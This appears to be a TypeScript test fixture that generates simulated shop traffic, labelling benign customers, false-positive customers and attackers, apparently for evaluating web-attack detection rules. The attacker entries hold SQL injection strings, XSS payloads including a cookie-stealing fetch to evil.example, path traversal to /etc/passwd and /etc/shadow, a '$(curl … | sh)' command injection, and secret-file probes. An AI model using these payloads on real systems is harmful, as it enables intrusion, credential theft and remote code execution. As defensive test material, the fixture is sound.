/** A request of the walk. */
export interface WalkRequest {
  readonly from: string;
  readonly path: string;
  readonly body?: object;
  readonly userAgent?: string;
  readonly cookie?: string;
}

/** What is known of a client of the walk, because we wrote its requests. */
export type Truth = 'customer' | 'customer caught by a rule' | 'attacker';

/** The clients that something stands against, and others. */
export const truth = new Map<string, Truth>();

type Rest = Omit<WalkRequest, 'from'>;

function client(from: string, is: Truth, requests: readonly Rest[]): WalkRequest[] {
  truth.set(from, is);
  return requests.map((request) => ({ from, ...request }));
}

const search = (text: string): string => `/search?q=${encodeURIComponent(text)}`;
const times = (count: number, of: (n: number) => Rest): Rest[] =>
  Array.from({ length: count }, (_, n) => of(n));
const browses = (count: number): Rest[] =>
  times(count, (n) => ({ path: n % 2 ? '/products' : `/products/k-${n}` }));

const SQL = [
  "1' UNION SELECT login, password FROM users--",
  "' OR '1'='1' --",
  '1; DROP TABLE orders--',
  "x' AND 1=CAST((SELECT version()) AS int)--",
  "1' AND SLEEP(5)--",
  "'; EXEC xp_cmdshell('dir')--",
];

const customers = [
  ...times(6, () => ({ path: '' })).flatMap((_, n) =>
    client(`198.51.100.${n + 1}`, 'customer', [
      ...browses(8),
      { path: search("women's shoes & jackets") },
      { path: '/login', body: { email: 'a@shop.example', password: 'correct horse' } },
      { path: '/orders', body: { lines: [{ sku: 'k-1' }], note: 'Ring twice; the bell is shy.' } },
      { path: '/products/k-1/reviews', body: { text: 'Price < value. 5 stars & a half' } },
    ]),
  ),
  // Reviews a book on databases, and quotes from it.
  ...client('198.51.100.77', 'customer caught by a rule', [
    ...browses(16),
    {
      path: '/products/b-1/reviews',
      body: { text: "Chapter 4 explains why 1' UNION SELECT name, price FROM products -- works." },
    },
    {
      path: '/products/b-1/reviews',
      body: { text: "Typo: it should be ' UNION SELECT null, version() -- there." },
    },
  ]),
  // Writes articles with markup, and so many that a ban would follow.
  ...client('198.51.100.78', 'customer caught by a rule', [
    ...browses(20).map((request) => ({ ...request, cookie: 'session=1' })),
    ...times(12, (n) => ({
      path: '/articles',
      body: { title: `News ${n}`, html: `<p onclick="more(${n})">More</p><script src="/more.js"></script>` },
      cookie: 'session=1',
    })),
    ...browses(20).map((request) => ({ ...request, cookie: 'session=1' })),
  ]),
  // An office behind one address.
  ...client('198.51.100.79', 'customer caught by a rule', browses(47)),
];

const attackers = [
  ...client('203.0.113.7', 'attacker', [
    ...SQL.map((text) => ({ path: search(text) })),
    ...SQL.map((text) => ({ path: '/products/s-1/reviews', body: { text } })),
    ...SQL.map((note) => ({ path: '/orders', body: { lines: [], note } })),
  ]),
  ...client(
    '203.0.113.21',
    'attacker',
    [
      '<script>fetch("//evil.example/"+document.cookie)</script>',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(document.domain)>',
    ].map((text) => ({ path: '/products/k-1/reviews', body: { text } })),
  ),
  ...client('203.0.113.40', 'attacker', [
    { path: '/products/..%2f..%2f..%2fetc%2fpasswd' },
    { path: '/search?q=..%2f..%2f..%2f..%2fetc%2fshadow' },
    { path: search('; cat /etc/passwd') },
    { path: '/orders', body: { lines: [], note: '$(curl http://evil.example/x.sh | sh)' } },
  ]),
  ...client(
    '203.0.113.41',
    'attacker',
    ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/index.php'].map((path) => ({ path })),
  ),
  ...client(
    '203.0.113.58',
    'attacker',
    ['/products', '/search?q=1', '/products/1'].map((path) => ({ path, userAgent: 'sqlmap/1.8' })),
  ),
  ...client(
    '203.0.113.66',
    'attacker',
    times(12, (n) => ({ path: '/login', body: { email: 'a@shop.example', password: `summer${n}` } })),
  ),
  ...client('203.0.113.99', 'attacker', [{ path: '/admin' }, { path: '/admin' }]),
  // Hides three attempts among what everybody does.
  ...client('203.0.113.120', 'attacker', [
    ...browses(5),
    ...SQL.slice(0, 3).map((text) => ({ path: search(text) })),
  ]),
];

const probe = client('127.0.0.1', 'customer', [...times(3, () => ({ path: '/health' })), { path: '/admin' }]);

/** All requests, mixed in an order that never changes; those of a client stay in theirs. */
export const traffic: readonly WalkRequest[] = mixed([...customers, ...attackers, ...probe]);

function mixed(requests: readonly WalkRequest[]): WalkRequest[] {
  const queues = [...new Set(requests.map(({ from }) => from))].map((from) =>
    requests.filter((request) => request.from === from),
  );
  const order: WalkRequest[] = [];
  let state = 7;
  while (queues.length > 0) {
    state = (state * 48_271) % 0x7fffffff;
    const at = state % queues.length;
    const next = queues[at]?.shift();
    if (next === undefined) queues.splice(at, 1);
    else order.push(next);
  }
  return order;
}
